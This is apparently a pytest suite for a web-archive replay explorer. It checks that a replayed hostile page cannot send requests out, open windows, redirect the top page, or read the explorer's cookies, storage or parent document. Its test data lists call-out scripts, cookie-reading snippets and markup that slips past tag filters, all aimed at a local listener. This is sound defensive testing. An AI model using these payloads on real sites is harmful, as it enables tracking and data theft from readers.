"""An archived page that wants to know who looks at it, and to tell someone."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame

from crawler.collection import Collection
from crawler.search.update import update
from crawler.warc.exchange import Exchange
from crawler.warc.seal import seal
from tests.browser.chromium import Looked, exploring, launched, looking
from tests.wire.writing import attempt, writer

NAME = "hostile"
QUIET = 400  # milliseconds in which what would go out goes out (the first packet came after 60)


class World:
    """Everything that is not the archive: whoever speaks to it is noted."""

    def __init__(self) -> None:
        self.said: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.tcp, self.udp = self._tcp.getsockname()[1], self._udp.getsockname()[1]
        for listen in (self._answer, self._hear):
            threading.Thread(target=listen, daemon=True).start()

    def _answer(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            connection.settimeout(0.2)
            with connection:
                try:
                    self.said.append(connection.recv(500) or b"(connected)")
                except TimeoutError:
                    self.said.append(b"(connected)")

    def _hear(self) -> None:
        while True:
            try:
                self.said.append(b"(datagram)" + self._udp.recv(500))
            except OSError:
                return

    def close(self) -> None:
        for listener in (self._tcp, self._udp):
            listener.close()


# What a page can try. {out}: the world's HTTP address, {udp}: its port, {explorer}: the explorer's origin.
SCRIPTS = {
    "fetch": "fetch('{out}', {{mode: 'no-cors'}})",
    "picture": "new Image().src = '{out}'",
    "beacon": "navigator.sendBeacon('{out}', 'x')",
    "socket": "new WebSocket('ws' + '{out}'.slice(4))",
    "events": "new EventSource('{out}')",
    "form": "document.body.innerHTML += `<form action='{out}'></form>`; document.forms[0].submit()",
    "window": "window.open('{out}')",
    "page around it": "top.location = '{out}'",
    "prefetch": "document.head.innerHTML += `<link rel=prefetch href='{out}'>`;"
    "document.head.innerHTML += `<link rel=preconnect href='{out}'>`",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{out}')`])))",
    "style": "document.head.innerHTML += `<style>body {{background: url({out})}} @import '{out}';</style>`",
}
# These make a browser open a connection, or send a packet that holds nothing of the page's choosing, and no
# policy keeps it from that: scripts run only where the reader asks for it.
SCRIPTS_THAT_ARE_HEARD = {
    "itself": "location = '{out}'",
    "frame": "document.body.innerHTML += `<iframe src='{out}'></iframe>`",
    "call": "const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp}'}}]}});"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
}
READS = {
    "explorer": "fetch('{explorer}/api/collections').then((r) => r.text())",
    "cookies": "Promise.resolve().then(() => document.cookie + 'read')",
    "storage": "Promise.resolve().then(() => localStorage.length + 'read')",
    "page around it": "Promise.resolve().then(() => parent.document.title)",
    "its address": "Promise.resolve().then(() => parent.location.href)",
    "service worker": "navigator.serviceWorker.register('/x.js').then(() => 'registered')",
}
# Markup alone, no script: what the page's own tags ask for.
MARKUP = (
    "<link rel=preconnect href='{out}'><link rel=dns-prefetch href='{out}'><link rel=stylesheet href='{out}'>"
    "<meta http-equiv=refresh content='0; url={out}'><img src='{out}' srcset='{out} 2x'>"
    "<iframe src='{out}'></iframe>"
    "<object data='{out}'></object><embed src='{out}'><video src='{out}' poster='{out}' autoplay></video>"
    "<svg><image href='{out}'/><use href='{out}#x'/></svg><input type=image src='{out}'>"
    "<body background='{out}'><p style='background: url({out})'>words</p>"
    "<style>@import '{out}'; p {{cursor: url({out}), auto}}</style>"
    # What a reader of tags may take for one thing and a browser for another.
    "<img alt='>' src='{out}'><img/src='{out}'><iMg sRc={out}><!--><img src='{out}'><!-- -->"
    "<![CDATA[><img src='{out}'>"
    "<a href='{out}' ping='{out}'>x</a><iframe srcdoc='<img src={out}>'></iframe>"
)


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    made = World()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launched() as started:
        yield started


@pytest.fixture(scope="module")
def archives(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Pages are written by each test; the explorer reads the index anew for each question."""
    folder = tmp_path_factory.mktemp("archives")
    Collection(folder, NAME).runs.mkdir(parents=True)
    return folder


@pytest.fixture(scope="module")
def explorer(archives: Path) -> Iterator[str]:
    with exploring(archives) as address:
        yield address


@contextmanager
def replayed(
    browser: Browser, archives: Path, explorer: str, html: str, *, live: bool
) -> Iterator[tuple[Looked, Frame]]:
    """An archive of one page, that page in its frame."""
    collection = Collection(archives, NAME)
    for path in collection.warc.glob("*"):
        path.unlink()
    body = f"<!DOCTYPE html><title>t</title><body>{html}".encode()
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(
        body
    )
    files = writer(collection.warc)
    files.write(Exchange("http://evil.example/", [attempt(head + body)]))
    files.close()
    seal(collection, rebuild=True)
    update(collection)
    with looking(browser) as looked:
        looked.page.goto(f"{explorer}/{NAME}/replay/2040{'live' * live}/http://evil.example/")
        frame = looked.replayed
        looked.page.wait_for_timeout(QUIET)
        yield looked, frame


def _script(text: str) -> str:
    return f"<script>{text}</script>"


@pytest.mark.parametrize("live", [False, True], ids=["still", "with scripts"])
def test_nothing_is_heard_of_a_page_that_calls_out(
    browser: Browser, archives: Path, explorer: str, world: World, live: bool
) -> None:
    out = f"http://127.0.0.1:{world.tcp}/secret"
    tried = SCRIPTS if live else SCRIPTS | SCRIPTS_THAT_ARE_HEARD
    world.said.clear()
    html = "".join(_script(text.format(out=out, udp=world.udp)) for text in tried.values())
    with replayed(browser, archives, explorer, html, live=live) as (looked, _):
        assert looked.page.url.startswith(explorer), "the page around it is still ours"
        assert len(looked.page.context.pages) == 1, "no window was opened"
    assert world.said == []


def test_of_what_no_policy_stops_no_byte_is_the_pages(
    browser: Browser, archives: Path, explorer: str, world: World
) -> None:
    """Asked for with its scripts. A connection without a request, a packet of the browser's own making."""
    out = f"http://127.0.0.1:{world.tcp}/secret"
    world.said.clear()
    html = "".join(_script(text.format(out=out, udp=world.udp)) for text in SCRIPTS_THAT_ARE_HEARD.values())
    with replayed(browser, archives, explorer, html, live=True) as (looked, _):
        assert looked.page.url.startswith(explorer)
    assert not [said for said in world.said if b"secret" in said]


def test_markup_alone_asks_the_archive_only(
    browser: Browser, archives: Path, explorer: str, world: World
) -> None:
    out = f"http://127.0.0.1:{world.tcp}/secret"
    world.said.clear()
    with replayed(browser, archives, explorer, MARKUP.format(out=out), live=False) as (looked, frame):
        assert "words" in frame.inner_text("body"), "the page is there"
        frame.get_by_text("x", exact=True).first.click()  # a link with a ping
        looked.page.wait_for_url(f"**/replay/**{world.tcp}/secret")
    assert world.said == []


@pytest.mark.parametrize("what", READS)
def test_a_page_with_its_scripts_reads_nothing_of_the_explorer(
    browser: Browser, archives: Path, explorer: str, what: str
) -> None:
    read = READS[what].format(explorer=explorer)
    html = _script(
        f"try {{ ({read}).then((t) => document.title = 'read ' + t, (e) => document.title = 'refused'); }}"
        " catch (e) { document.title = 'refused'; }"
    )
    with replayed(browser, archives, explorer, html, live=True) as (_, frame):
        assert frame.title() == "refused"


def test_a_page_opened_by_itself_is_put_into_its_frame(
    browser: Browser, archives: Path, explorer: str
) -> None:
    """Outside of the frame nothing would hold it: it could lead the reader elsewhere."""
    with replayed(browser, archives, explorer, "<p>words</p>", live=False) as (looked, frame):
        looked.page.goto(frame.url)
        assert looked.page.url.startswith(f"{explorer}/{NAME}/replay/")
        assert looked.replayed.inner_text("body") == "words"
